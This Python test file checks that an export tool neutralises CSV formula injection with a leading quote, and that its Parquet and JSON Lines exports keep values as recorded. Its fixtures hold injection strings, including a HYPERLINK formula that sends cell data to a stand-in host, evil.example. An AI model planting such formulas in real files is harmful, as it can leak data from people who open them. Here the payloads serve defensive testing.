"""CSV formula injection (issue 24, point 11): a spreadsheet opening an
export takes a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return for a formula (`=HYPERLINK(...)` in an app name or a replica id runs
when the file is opened). CSV writes such a text value with a leading `'`
(OWASP's rule); numbers, which begin with `-` when negative, stay numbers.
Parquet and JSON Lines keep every value as it was recorded. Through the
real server (`GET /v1/export`) and `routelens export`."""

from __future__ import annotations

import csv
import io
import json
import time

import httpx
import pyarrow.parquet as pq
import pytest

from routelens.collector.cli import main as routelens
from routelens.collector.settings import Settings
from tests.support.collector_server import CollectorServer
from tests.support.wire_source import WireSource

APP = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
TEXT = {"app": APP, "deployment": "+SUM(1,2)", "request_id": "@cmd", "internal_request_id": "\tTab",
        "model_id": "\rCR", "chosen_replica": "-2+3"}
QUEUE_LEN, STATS_AGE = -3, -2.5  # numbers that begin with "-"


@pytest.fixture
def served(tmp_path):
    """A collector on a SQLite file holding one decision made of formulas, and its window."""
    source = WireSource("formula-source", app=APP, deployment=TEXT["deployment"], labels={"v": "=1"})
    now = time.time()
    decision = source.decision(now - 30, [[TEXT["chosen_replica"]], ["r1"]], request_id=TEXT["request_id"],
                               internal_request_id=TEXT["internal_request_id"], model_id=TEXT["model_id"],
                               candidates={TEXT["chosen_replica"]: {"queue_len": QUEUE_LEN, "stats_age_s": STATS_AGE,
                                                                    "stats_age_source": "stamped"}})
    batch = source.batch([source.replicas(now - 40, [TEXT["chosen_replica"], "r1"]), decision,
                          source.routed(now - 29, TEXT["chosen_replica"], decision)])
    db_url = f"sqlite:///{tmp_path / 'formulas.db'}"
    with CollectorServer(Settings(db_url=db_url, retention_s=None)) as server:
        assert httpx.post(server.url + "/v1/events", json=batch).status_code == 200
        yield server, db_url, {"since": str(now - 60), "until": str(now + 60)}


def _get(server, window, **params) -> bytes:
    response = httpx.get(server.url + "/v1/export", params={**window, **params})
    assert response.status_code == 200, response.text
    return response.content


def _csv_rows(data: bytes) -> list:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def _check_neutralized(decisions: list, candidates: list) -> None:
    [row] = decisions
    for column, value in TEXT.items():
        assert row[column] == "'" + value, column
    assert row["router_class"] == WireSource("x").info["router_class"]  # nothing to neutralize: as is
    assert json.loads(row["ranks"]) == [[TEXT["chosen_replica"]], ["r1"]]  # JSON text begins with "["
    assert json.loads(row["labels"]) == {"v": "=1"}
    chosen = next(c for c in candidates if c["chosen"] == "true")
    assert chosen["replica_id"] == "'" + TEXT["chosen_replica"]
    assert chosen["queue_len"] == str(QUEUE_LEN) and float(chosen["stats_age_s"]) == STATS_AGE


def test_csv_from_the_api_neutralizes_formulas_in_text_not_numbers(served):
    server, _, window = served
    _check_neutralized(_csv_rows(_get(server, window, format="csv")),
                       _csv_rows(_get(server, window, format="csv", what="candidates")))


def test_csv_from_the_command_line_neutralizes_formulas_in_text_not_numbers(served, tmp_path):
    _, db_url, window = served
    tables = {}
    for what in ("decisions", "candidates"):
        out = tmp_path / f"{what}.csv"
        assert routelens(["export", "--db", db_url, "-o", str(out), "--what", what,
                          "--since", window["since"], "--until", window["until"]]) == 0
        tables[what] = _csv_rows(out.read_bytes())
    _check_neutralized(tables["decisions"], tables["candidates"])


def test_parquet_and_json_lines_keep_the_values_as_recorded(served):
    server, _, window = served
    [row] = pq.read_table(io.BytesIO(_get(server, window, format="parquet"))).to_pylist()
    [line] = _get(server, window, format="jsonl").splitlines()
    for recorded in (row, json.loads(line)):
        assert {column: recorded[column] for column in TEXT} == TEXT
    candidates = pq.read_table(io.BytesIO(_get(server, window, format="parquet", what="candidates"))).to_pylist()
    chosen = next(c for c in candidates if c["chosen"])
    assert (chosen["queue_len"], chosen["stats_age_s"]) == (QUEUE_LEN, STATS_AGE)
